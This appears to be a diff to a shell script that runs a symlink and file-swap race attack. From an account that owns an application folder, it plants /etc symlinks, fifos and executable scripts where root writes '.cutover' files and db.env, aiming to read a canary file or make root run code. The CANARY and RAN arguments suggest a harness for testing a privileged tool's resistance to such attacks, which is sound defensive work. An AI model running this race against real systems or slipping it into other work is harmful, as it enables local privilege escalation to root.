@@ -1,6 +1,7 @@
 #!/bin/sh
 # race.sh APP CANARY RAN: what an account can do that owns the application's folder APP and wants to read or change root's
-# file CANARY, or have something run as root that makes RAN. Until it is killed.
+# file CANARY, or have something run as root that makes RAN. Until it is killed; it prints a
+# line for each thing that it has planted, and for each file of the run that it has swapped.
 app=$1 canary=$2 ran=$3
 cd "$app" || exit 1
 evil="#!/bin/sh
@@ -12,7 +13,7 @@ plant() {
     2) mkfifo "$1" ;;
     3) printf '%s\n' "$evil" > "$1"; chmod 755 "$1" ;;
     4) ln -s /etc "$1" ;;
-    esac 2>/dev/null
+    esac 2>/dev/null && echo planted
 }
 turn=0
 while :; do
@@ -32,12 +33,12 @@ while :; do
     # what root makes there while it makes it
     for new in .cutover.* .cutover-*; do
         [ -f "$new" ] && [ ! -L "$new" ] || continue
-        mv "$new" "$new.aside" 2>/dev/null && plant "./$new"
+        mv "$new" "$new.aside" 2>/dev/null && echo swapped && plant "./$new"
         rm -rf "./$new.aside"
     done
     # and the file itself, for moments
     if [ $((turn % 4)) = 0 ] && [ -f db.env ] && [ ! -L db.env ]; then
-        mv db.env mine 2>/dev/null && plant ./db.env
+        mv db.env mine 2>/dev/null && echo swapped && plant ./db.env
         sleep 0.0$((turn % 7))
         rm -rf ./db.env
         mv -n mine db.env 2>/dev/null
